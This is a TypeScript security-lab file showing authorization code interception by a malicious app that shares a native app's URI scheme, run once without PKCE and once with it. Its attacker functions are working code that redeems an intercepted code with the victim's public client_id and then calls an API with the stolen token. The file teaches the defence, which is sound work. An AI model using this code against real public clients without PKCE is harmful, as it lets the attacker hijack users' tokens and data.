/**
 * Security lab: authorization code interception, with and without PKCE.
 *
 * Two apps on one device: "Notes", a native app (a public client), and "Free
 * Flashlight", a malicious app that registered the same private-use URI scheme
 * (`com.example.notes:`). When the browser sends the authorization response to
 * that scheme, the operating system may hand it to either app (RFC 8252 §8.1).
 * The flashlight app reads the code and redeems it itself: Notes is a public
 * client, so its client_id is all the token request needs.
 *
 * Without PKCE nothing ties the code to the app that asked for it, and the
 * attacker gets the tokens. With PKCE the token endpoint asks for the
 * code_verifier, which never left Notes, and refuses the stolen code with
 * `invalid_grant`.
 *
 * @see RFC 7636 §1 (the attack PKCE was made for) and §4.6 (the check)
 * @see RFC 9700 §4.5 (authorization code injection) and §2.1.1 (PKCE for every client)
 */
import * as oauth from 'oauth4webapi';

/** What both apps know: the server, the victim app's client_id and its redirect URI. */
export interface LabConfig {
  issuer: string;
  /** Notes' client_id. Public, so the malicious app can send it too. */
  clientId: string;
  /** The redirect URI Notes registered, which the malicious app also answers. */
  redirectUri: string;
  scope: string;
  /** Identifier of the API the access token is for (RFC 8707 `resource`). */
  audience: string;
  fetch?: (url: string, init: RequestInit) => Promise<Response>;
  /** Allow plain-HTTP requests to an authorization server on this machine only. */
  allowInsecureRequests?: boolean;
}

/** Notes' one-time values: `state`, and the PKCE pair when the defence is on. */
export interface VictimSecrets {
  state: string;
  pkce?: {verifier: string; challenge: string; method: 'S256'};
}

/** What the malicious app got out of the stolen code: tokens, or the server's refusal. */
export type StolenCodeOutcome =
  | {redeemed: true; tokens: oauth.TokenEndpointResponse}
  | {redeemed: false; status: number; error: string; error_description?: string};

const client = (config: LabConfig): oauth.Client => ({client_id: config.clientId, token_endpoint_auth_method: 'none'});

function httpOptions(config: LabConfig): oauth.HttpRequestOptions<string, oauth.ProtectedResourceRequestBody> {
  const options: oauth.HttpRequestOptions<string, oauth.ProtectedResourceRequestBody> = {};
  // oauth4webapi refuses http: URLs unless told otherwise (RFC 6749 §3.1 and §3.2 require TLS).
  if (config.allowInsecureRequests) options[oauth.allowInsecureRequests] = true;
  const customFetch = config.fetch;
  // oauth4webapi's request options are fetch()'s RequestInit in all but their TypeScript name.
  if (customFetch) options[oauth.customFetch] = (url, init) => customFetch(url, init as RequestInit);
  return options;
}

/** Fetches the authorization server's metadata (RFC 8414 §3). */
export async function discover(config: LabConfig): Promise<oauth.AuthorizationServer> {
  const issuer = new URL(config.issuer);
  return oauth.processDiscoveryResponse(issuer, await oauth.discoveryRequest(issuer, httpOptions(config)));
}

/** Notes creates `state`, and a PKCE verifier and challenge only when the defence is on (RFC 7636 §4.1-4.2). */
export async function createVictimSecrets(usePkce: boolean): Promise<VictimSecrets> {
  const state = oauth.generateRandomState();
  if (!usePkce) return {state};
  const verifier = oauth.generateRandomCodeVerifier();
  return {state, pkce: {verifier, challenge: await oauth.calculatePKCECodeChallenge(verifier), method: 'S256'}};
}

/** Notes' authorization request (RFC 6749 §4.1.1): with the PKCE challenge when it has one (RFC 7636 §4.3). */
export function buildAuthorizationUrl(as: oauth.AuthorizationServer, config: LabConfig, secrets: VictimSecrets): URL {
  if (!as.authorization_endpoint) throw new Error('The authorization server metadata has no authorization_endpoint.');
  const url = new URL(as.authorization_endpoint);
  url.searchParams.set('response_type', 'code');
  url.searchParams.set('client_id', config.clientId);
  url.searchParams.set('redirect_uri', config.redirectUri);
  url.searchParams.set('scope', config.scope);
  url.searchParams.set('resource', config.audience);
  url.searchParams.set('state', secrets.state);
  // The defence: the challenge binds the code to the verifier only Notes holds (RFC 7636 §4.3).
  if (secrets.pkce) url.searchParams.set('code_challenge', secrets.pkce.challenge);
  if (secrets.pkce) url.searchParams.set('code_challenge_method', secrets.pkce.method);
  return url;
}

/**
 * The malicious app's side: it received the redirect meant for Notes, takes the code and redeems it
 * with Notes' client_id. It has no code_verifier, so it sends none (RFC 7636 §4.5 is Notes' secret).
 *
 * @see RFC 6749 §4.1.3 (the token request) and RFC 7636 §4.6 (the server's check, invalid_grant)
 */
export async function redeemStolenCode(
  as: oauth.AuthorizationServer,
  config: LabConfig,
  interceptedUrl: URL | string,
): Promise<StolenCodeOutcome> {
  // The attacker never sent the request, so it has no state to compare and skips the check.
  const parameters = oauth.validateAuthResponse(as, client(config), new URL(interceptedUrl), oauth.skipStateCheck);
  const response = await oauth.authorizationCodeGrantRequest(
    as,
    client(config),
    oauth.None(),
    parameters,
    config.redirectUri,
    oauth.nopkce,
    httpOptions(config),
  );
  try {
    return {redeemed: true, tokens: await oauth.processAuthorizationCodeResponse(as, client(config), response)};
  } catch (error) {
    if (!(error instanceof oauth.ResponseBodyError)) throw error;
    return {
      redeemed: false,
      status: error.status,
      error: error.error,
      ...(error.error_description ? {error_description: error.error_description} : {}),
    };
  }
}

/** The malicious app uses the stolen access token as a bearer token (RFC 6750 §2.1). */
export async function callApiWithStolenToken(
  url: string,
  accessToken: string,
  config: LabConfig,
): Promise<{status: number; body: unknown}> {
  const response = await oauth.protectedResourceRequest(
    accessToken,
    'GET',
    new URL(url),
    new Headers({accept: 'application/json'}),
    null,
    httpOptions(config),
  );
  return {status: response.status, body: await response.json().catch(() => null)};
}
